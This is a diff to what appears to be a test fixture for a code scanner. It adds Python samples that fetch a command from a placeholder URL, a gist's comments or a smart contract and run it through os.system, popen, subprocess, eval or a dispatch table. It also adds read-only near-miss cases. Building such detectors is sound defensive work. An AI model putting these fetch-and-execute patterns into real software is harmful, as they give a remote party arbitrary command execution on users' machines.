@@ -60,6 +60,14 @@ async def go():
     "an interpreter": "def go():\n    subprocess.Popen([sys.executable, '-c', requests.get(URL).text])\n",
     "an interpreter that is told": "def go():\n    subprocess.run(['bash', '-s'], input=requests.get(URL).content)\n",
     "a command in words": "import shlex\ndef go():\n    c = requests.get(URL).text\n    subprocess.call(shlex.split(c))\n#calls: os.system\n",
+    "a command that is cut into words": "def go():\n    for line in requests.get(URL).text.splitlines():\n        subprocess.run(line[2:].split(), capture_output=True)\n",
+    "an expression that is compiled": "def go():\n    eval(compile(requests.get(URL).json()['f'], 'f', 'eval'))\n",
+    "an item of a table": "def shell(a):\n    os.system(a)\n\nHOW = {'x': shell, 'y': print}\n\ndef go():\n    job = requests.get(URL).json()\n    HOW[job['c']](job['a'])\n",
+    "what a table gives": "class Agent:\n    def __init__(self):\n        self.how = {'x': self.shell}\n\n    def shell(self, a):\n        return os.popen(a).read()\n\n    def go(self):\n        job = requests.get(URL).json()\n        how = self.how.get(job['c'], self.none)\n        how(job['a'])\n",
+    "a method by its name": "class Agent:\n    def do_shell(self, a):\n        return os.popen(a).read()\n\n    def go(self):\n        job = requests.get(URL).json()\n        getattr(self, 'do_' + job['c'])(job['a'])\n",
+    "whatever is given": "def shell(*words, **more):\n    os.system(words[0])\n    os.popen(more['c'])\n\ndef go():\n    text = requests.get(URL).text\n    shell(text, c=text)\n",
+    "comments of a repository": "import github\n\ndef go(token):\n    for note in github.Github(token).get_gist('0').get_comments():\n        os.system(note.body)\n",
+    "an answer of a contract": "from web3 import Web3\n\ndef go(w3, abi):\n    made = Web3(URL).eth.contract(address='0x0', abi=abi).functions.text().call()\n    os.system(made)\n",
     "a socket": """
 import socket
 
@@ -104,6 +112,9 @@ class Health(BaseHTTPRequestHandler):
 """,
 }
 ONLY_READ = {
+    "a table of what only reads": "def read(a):\n    return a\n\nHOW = {'x': read}\n\ndef go():\n    job = requests.get(URL).json()\n    HOW[job['c']](job['a'])\n    os.system('date')\n",
+    "a method of another name": "class Agent:\n    def run_shell(self, a):\n        return os.popen(a).read()\n\n    def do_read(self, a):\n        return a\n\n    def go(self):\n        job = requests.get(URL).json()\n        getattr(self, 'do_' + job['c'])(job['a'])\n",
+    "a pattern that is compiled": "import re\n\ndef go():\n    return re.compile(requests.get(URL).text, re.M), os.system('date')\n",
     "nothing is run": "def go():\n    return requests.get(URL).text\n\ndef run(text):\n    exec(text)\n",
     "its own command": "def go():\n    v = requests.get(URL).json()['version']\n    os.system('pip install tool==' + v)\n",
     "its own command, filled": "def go():\n    v = requests.get(URL).text\n    os.system('git clone %s' % v)\n    os.system('git clone {}'.format(v))\n",
